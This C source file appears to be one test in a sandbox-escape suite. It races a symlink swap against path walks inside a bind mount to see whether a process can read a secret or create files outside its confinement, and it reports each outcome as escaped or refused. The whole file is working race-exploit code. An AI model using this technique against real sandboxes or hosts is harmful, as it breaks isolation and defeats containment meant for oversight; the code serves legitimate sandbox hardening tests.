/*
 * fs_race: a symlink swapped in during a path walk.
 *
 *   fs_race WORK SECONDS
 *
 * In the writable bind mount /rw (WORK/rw on the host), race/d flips between
 * a real directory and a symlink to WORK/outside (absolute host path, and
 * ../../outside: both lead to WORK/outside if followed on the host), while
 * other threads open race/d/secret for reading and create race/d/pwned-race.
 * Reading "SECRET" or a file appearing in WORK/outside (seen through the
 * read-only /view, and checked by run.sh) is an escape.  run.sh may also
 * flip the same names from the host side at the same time.
 */
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>

static atomic_int stop;
static atomic_long opens_ok, reads_secret, creates_ok, flips;
static char work[1024];

static void *flipper(void *arg)
{
    (void)arg;
    while (!atomic_load(&stop)) {
        /* d <-> s (real dir <-> symlink), atomically when the sentry can. */
        if (syscall(SYS_renameat2, AT_FDCWD, "/rw/race/d", AT_FDCWD, "/rw/race/s", 2) < 0) {
            (void)!rename("/rw/race/d", "/rw/race/t");
            (void)!rename("/rw/race/s", "/rw/race/d");
            (void)!rename("/rw/race/t", "/rw/race/s");
        }
        atomic_fetch_add(&flips, 1);
        (void)!syscall(SYS_renameat2, AT_FDCWD, "/rw/race/d2", AT_FDCWD, "/rw/race/s2", 2);
    }
    return NULL;
}

static void *reader(void *arg)
{
    const char *path = arg;
    char buf[64];

    while (!atomic_load(&stop)) {
        ssize_t n = read_small(path, buf, sizeof buf);
        if (n >= 0) {
            atomic_fetch_add(&opens_ok, 1);
            if (strncmp(buf, "SECRET", 6) == 0)
                atomic_fetch_add(&reads_secret, 1);
        }
    }
    return NULL;
}

static void *creator(void *arg)
{
    const char *path = arg;

    while (!atomic_load(&stop)) {
        int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0644);
        if (fd >= 0) {
            atomic_fetch_add(&creates_ok, 1);
            (void)!write(fd, "pwned\n", 6);
            close(fd);
            unlink(path);
        }
    }
    return NULL;
}

int main(int argc, char **argv)
{
    pthread_t th[9];
    char target[1200];
    double secs = argc > 2 ? atof(argv[2]) : 2.0;
    struct stat st;

    attack_begin("fs");
    if (argc < 2)
        return 2;
    snprintf(work, sizeof work, "%s", argv[1]);
    (void)!mkdir("/rw/race", 0755);
    (void)!mkdir("/rw/race/d", 0755);
    (void)!mkdir("/rw/race/d2", 0755);
    snprintf(target, sizeof target, "%s/outside", work);
    if (symlink(target, "/rw/race/s") < 0 || symlink("../../outside", "/rw/race/s2") < 0) {
        printf("setup: symlinks: %s\n", strerror(errno));
        return 2;
    }
    pthread_create(&th[0], NULL, flipper, NULL);
    pthread_create(&th[1], NULL, reader, "/rw/race/d/secret");
    pthread_create(&th[2], NULL, reader, "/rw/race/d2/secret");
    pthread_create(&th[3], NULL, creator, "/rw/race/d/pwned-race");
    pthread_create(&th[4], NULL, creator, "/rw/race/d2/pwned-race2");
    pthread_create(&th[5], NULL, reader, "/rw/race/d/../../view/../rw/race/d/secret");
    pthread_create(&th[6], NULL, creator, "/rw/race/s/pwned-race3");
    /* run.sh flips race/h <-> race/hl (a symlink to WORK/outside) from
     * the host side meanwhile. */
    pthread_create(&th[7], NULL, reader, "/rw/race/h/secret");
    pthread_create(&th[8], NULL, creator, "/rw/race/h/pwned-host");
    double end = now_s() + secs;
    while (now_s() < end)
        usleep(50000);
    atomic_store(&stop, 1);
    for (int i = 0; i < 9; i++)
        pthread_join(th[i], NULL);
    printf("  %ld flips, %ld successful opens, %ld creates (inside the bind mount)\n",
           atomic_load(&flips), atomic_load(&opens_ok), atomic_load(&creates_ok));
    if (atomic_load(&reads_secret))
        escaped("race-symlink-swap-read", "read the secret %ld times", atomic_load(&reads_secret));
    else
        refused("race-symlink-swap-read", "never read WORK/outside/secret");
    if (stat("/view/pwned-race", &st) == 0 || stat("/view/pwned-race2", &st) == 0 ||
        stat("/view/pwned-race3", &st) == 0 || stat("/view/pwned-host", &st) == 0)
        escaped("race-symlink-swap-create", "a file appeared in WORK/outside");
    else
        refused("race-symlink-swap-create", "nothing appeared in WORK/outside (run.sh checks too)");
    return attack_end();
}
